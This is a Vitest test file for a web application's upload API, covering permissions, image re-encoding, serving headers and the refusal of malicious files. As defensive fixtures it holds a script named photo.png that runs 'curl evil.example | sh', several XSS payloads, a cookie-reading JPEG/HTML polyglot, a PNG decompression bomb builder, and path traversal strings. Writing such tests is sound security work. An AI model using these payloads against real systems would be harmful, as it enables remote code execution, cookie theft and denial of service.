// Uploads: who may upload, what is stored (images re-encoded, documents as they came), how
// files are served, and the common malicious uploads, each refused with `{ success: 0 }`
// and leaving nothing behind.
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { uploadMessages } from '@techgold/contracts/uploads';
import { uploads } from '../../db/schema/uploads.ts';
import { Client, createTestApp, LEARNER, type TestContext } from '../../../test/helpers.ts';

const AUTHOR = 'author@techgold.test';
// Small limits so "one byte over" is cheap to send; the defaults are 256 MiB and 4 MiB.
const FILE_LIMIT = 600_000;
const AVATAR_LIMIT = 300_000;

let t: TestContext;
let author: Client;
let learner: Client;
let uploadsDir: string;

beforeAll(async () => {
  t = await createTestApp({
    UPLOAD_FILE_MAX_BYTES: String(FILE_LIMIT),
    UPLOAD_IMAGE_MAX_BYTES: String(AVATAR_LIMIT),
  });
  uploadsDir = path.join(t.app.config.dataDir, 'uploads');
  author = new Client(t.app, '10.21.0.1');
  learner = new Client(t.app, '10.21.0.2');
  expect((await author.login(AUTHOR)).statusCode).toBe(200);
  expect((await learner.login(LEARNER)).statusCode).toBe(200);
});
afterAll(() => t.close());

interface Part {
  field?: string;
  name: string;
  data: Buffer | string;
  type?: string;
}

/** A multipart body as a browser's FormData sends it. */
async function multipart(parts: Part[]) {
  const form = new FormData();
  for (const p of parts) {
    form.append(
      p.field ?? 'file',
      new Blob([p.data], { type: p.type ?? 'application/octet-stream' }),
      p.name,
    );
  }
  const request = new Request('http://x/', { method: 'POST', body: form });
  return {
    body: Buffer.from(await request.arrayBuffer()),
    type: request.headers.get('content-type')!,
  };
}

async function send(client: Client, url: string, parts: Part[]) {
  const { body, type } = await multipart(parts);
  return client.request('POST', url, body, { 'content-type': type });
}

const upload = (client: Client, ...parts: Part[]) => send(client, '/api/upload', parts);
const avatar = (client: Client, ...parts: Part[]) => send(client, '/api/upload/image', parts);

const rowCount = async () => (await t.handle.db.select().from(uploads)).length;
const strayFiles = () => fs.readdirSync(uploadsDir).filter((f) => f.startsWith('.partial-'));

async function fetchStored(url: string) {
  const res = await t.app.inject({ method: 'GET', url });
  return { res, bytes: res.rawPayload };
}

const photo = (width: number, height: number, format: 'jpeg' | 'png' | 'webp' | 'gif' = 'jpeg') =>
  sharp({ create: { width, height, channels: 3, background: '#336699' } })
    .withExif({ IFD0: { Copyright: 'secret-location-51.5N' } })
    .toFormat(format)
    .toBuffer();

const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);

/** A PNG whose header claims `width` × `height`: decoding it would need gigabytes. */
function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(0, 9); // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', zlib.deflateSync(Buffer.alloc(width + 1))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function expectRefused(
  res: { statusCode: number; json(): unknown; body: string },
  status: number,
  message: string,
) {
  expect(res.statusCode, res.body).toBe(status);
  expect(res.json()).toEqual({ success: 0, message });
}

describe('who may upload', () => {
  it('401 anonymous and 419 without the XSRF header', async () => {
    const anonymous = new Client(t.app, '10.21.0.9');
    await anonymous.csrf();
    const file = { name: 'a.pdf', data: PDF };
    expect((await upload(anonymous, file)).statusCode).toBe(401);
    expect((await avatar(anonymous, file)).statusCode).toBe(401);
    const { body, type } = await multipart([file]);
    const res = await author.request('POST', '/api/upload', body, {
      'content-type': type,
      'x-xsrf-token': '',
    });
    expect(res.statusCode).toBe(419);
  });

  it('403 for a member who cannot write articles; every member may set a profile picture', async () => {
    expect((await upload(learner, { name: 'a.pdf', data: PDF })).statusCode).toBe(403);
    const res = await avatar(learner, { name: 'me.png', data: await photo(80, 80, 'png') });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toEqual({
      success: 1,
      file: { url: expect.stringMatching(/^\/media\/uploads\/[\w-]{22}\.png$/) },
    });
  });
});

describe('what is stored and how it is served', () => {
  it('re-encodes an editor image: at most 1600 px wide, no metadata, shown inline', async () => {
    const original = await photo(2400, 1200);
    const res = await upload(author, { name: 'Team day.jpeg', data: original, type: 'image/jpeg' });
    expect(res.statusCode, res.body).toBe(200);
    const { file } = res.json() as { file: Record<string, unknown> };
    expect(file).toMatchObject({ name: 'Team day.jpg', extension: 'jpg', title: 'Team day.jpg' });

    const { res: served, bytes } = await fetchStored(file.url as string);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-disposition']).toBeUndefined();
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.headers['content-security-policy']).toContain('sandbox');
    expect(bytes.length).toBe(file.size);
    const meta = await sharp(bytes).metadata();
    expect([meta.width, meta.height]).toEqual([1600, 800]);
    expect(meta.exif).toBeUndefined();
    expect(bytes.includes('secret-location')).toBe(false);

    const again = await t.app.inject({
      method: 'GET',
      url: file.url as string,
      headers: { 'if-none-match': served.headers.etag as string },
    });
    expect(again.statusCode).toBe(304);
  });

  it('keeps a smaller image its size, and re-encodes PNG, WebP and GIF as themselves', async () => {
    for (const format of ['png', 'webp', 'gif'] as const) {
      const res = await upload(author, {
        name: `small.${format}`,
        data: await photo(300, 200, format),
      });
      expect(res.statusCode, res.body).toBe(200);
      const { bytes, res: served } = await fetchStored(res.json().file.url);
      expect(served.headers['content-type']).toBe(`image/${format}`);
      const meta = await sharp(bytes).metadata();
      expect([meta.format, meta.width, meta.height]).toEqual([format, 300, 200]);
    }
  });

  it('resizes a profile picture to 600 px wide and accepts JPEG, PNG and WebP only', async () => {
    const res = await avatar(author, { name: 'me.webp', data: await photo(1200, 900, 'webp') });
    expect(res.statusCode, res.body).toBe(200);
    const meta = await sharp((await fetchStored(res.json().file.url)).bytes).metadata();
    expect([meta.width, meta.height]).toEqual([600, 450]);

    expectRefused(
      await avatar(author, { name: 'me.gif', data: await photo(50, 50, 'gif') }),
      415,
      uploadMessages.notAnImage,
    );
    expectRefused(
      await avatar(author, { name: 'cv.pdf', data: PDF }),
      415,
      uploadMessages.notAnImage,
    );
  });

  it('stores a document exactly as sent and serves it as a download under its name', async () => {
    const res = await upload(author, { name: 'Skills survey – 2026.pdf', data: PDF });
    expect(res.statusCode, res.body).toBe(200);
    const { file } = res.json();
    expect(file).toMatchObject({
      size: PDF.length,
      extension: 'pdf',
      name: 'Skills survey – 2026.pdf',
    });
    const { res: served, bytes } = await fetchStored(file.url);
    expect(bytes.equals(PDF)).toBe(true);
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(served.headers['content-disposition']).toBe(
      `attachment; filename="Skills survey _ 2026.pdf"; filename*=UTF-8''Skills%20survey%20%E2%80%93%202026.pdf`,
    );
  });

  it('accepts plain text and CSV by extension, served as downloads', async () => {
    const res = await upload(author, { name: 'results.csv', data: 'name,score\nAda,10\n' });
    expect(res.statusCode, res.body).toBe(200);
    const { res: served } = await fetchStored(res.json().file.url);
    expect(served.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(served.headers['content-disposition']).toMatch(/^attachment; filename="results.csv"/);
  });

  it('answers 404 for a name that was never stored or is not a storage name', async () => {
    for (const url of [
      '/media/uploads/AAAAAAAAAAAAAAAAAAAAAA.png',
      '/media/uploads/..%2F..%2Fetc%2Fpasswd',
    ]) {
      expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(404);
    }
  });
});

describe('malicious and broken uploads are refused and leave nothing behind', () => {
  it('refuses a script renamed .png, an HTML file, an SVG with script and markup posing as text', async () => {
    const before = await rowCount();
    const cases: Part[] = [
      { name: 'photo.png', data: '#!/bin/sh\ncurl evil.example | sh\n', type: 'image/png' },
      { name: 'page.html', data: '<!doctype html><script>alert(1)</script>', type: 'text/html' },
      {
        name: 'logo.svg',
        data: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        type: 'image/svg+xml',
      },
      { name: 'notes.txt', data: 'hello\n<script>alert(1)</script>' },
      { name: 'notes.txt', data: '<svg onload=alert(1)>' },
      { name: 'program.exe', data: Buffer.from('4d5a90000300000004000000ffff0000', 'hex') },
    ];
    for (const part of cases) {
      expectRefused(await upload(author, part), 415, uploadMessages.wrongType);
    }
    expect(await rowCount()).toBe(before);
    expect(strayFiles()).toEqual([]);
  });

  it('neutralises a JPEG/HTML polyglot: what is stored is re-encoded pixels only', async () => {
    const polyglot = Buffer.concat([
      await photo(64, 64),
      Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>'),
    ]);
    const res = await upload(author, { name: 'cat.jpg', data: polyglot });
    expect(res.statusCode, res.body).toBe(200);
    const { bytes, res: served } = await fetchStored(res.json().file.url);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(bytes.includes('<script')).toBe(false);
  });

  it('refuses a decompression bomb and a truncated image without decoding them', async () => {
    const before = await rowCount();
    expectRefused(
      await upload(author, { name: 'bomb.png', data: pngClaiming(60_000, 60_000) }),
      422,
      uploadMessages.unreadableImage,
    );
    const whole = await photo(400, 300);
    expectRefused(
      await upload(author, { name: 'half.jpg', data: whole.subarray(0, whole.length / 2) }),
      422,
      uploadMessages.unreadableImage,
    );
    expect(await rowCount()).toBe(before);
  });

  it('refuses an empty file, a wrong field and two files', async () => {
    const before = await rowCount();
    expectRefused(await upload(author, { name: 'empty.pdf', data: '' }), 422, uploadMessages.empty);
    expectRefused(
      await upload(author, { field: 'image', name: 'a.pdf', data: PDF }),
      422,
      uploadMessages.noFile,
    );
    expectRefused(
      await upload(author, { name: 'a.pdf', data: PDF }, { name: 'b.pdf', data: PDF }),
      422,
      uploadMessages.tooManyFiles,
    );
    expect(await rowCount()).toBe(before);
    expect(strayFiles()).toEqual([]);
    const json = await author.post('/api/upload', { url: 'x' });
    expectRefused(json, 415, uploadMessages.noFile);
  });

  it('takes a file of exactly the limit and refuses one byte over (413), for both routes', async () => {
    const before = await rowCount();
    const atLimit = await upload(author, { name: 'big.txt', data: 'a'.repeat(FILE_LIMIT) });
    expect(atLimit.statusCode, atLimit.body).toBe(200);
    expect(atLimit.json().file.size).toBe(FILE_LIMIT);
    expectRefused(
      await upload(author, { name: 'big.txt', data: 'a'.repeat(FILE_LIMIT + 1) }),
      413,
      uploadMessages.tooBig('586 KB'),
    );
    // The avatar limit counts the bytes sent, before any decoding.
    const padded = Buffer.concat([await photo(40, 40, 'png'), Buffer.alloc(AVATAR_LIMIT)]);
    expectRefused(
      await avatar(author, { name: 'me.png', data: padded }),
      413,
      uploadMessages.tooBig('293 KB'),
    );
    expect(await rowCount()).toBe(before + 1);
    expect(strayFiles()).toEqual([]);
  });

  it('keeps only a clean name: no path parts, control or direction-override characters', async () => {
    const res = await upload(author, {
      name: '../../etc/\u0007re\u202Eport\u0000.pdf',
      data: PDF,
    });
    expect(res.statusCode, res.body).toBe(200);
    const { file } = res.json();
    expect(file.name).toBe('report.pdf');
    expect(file.url).toMatch(/^\/media\/uploads\/[\w-]{22}\.pdf$/);
    expect(fs.readdirSync(uploadsDir)).toContain(path.basename(file.url));
  });
});
